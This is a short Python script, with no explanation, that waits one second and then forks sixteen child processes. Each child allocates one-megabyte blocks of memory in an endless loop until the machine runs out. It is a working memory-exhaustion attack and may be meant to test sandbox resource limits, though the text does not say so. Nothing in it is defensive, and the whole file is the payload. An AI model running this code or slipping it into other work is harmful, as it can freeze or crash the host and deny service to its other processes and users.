import os
import time

time.sleep(1)
for _ in range(16):
    if os.fork() == 0:
        hoard = []
        while True:
            hoard.append(bytes([1]) * 2**20)
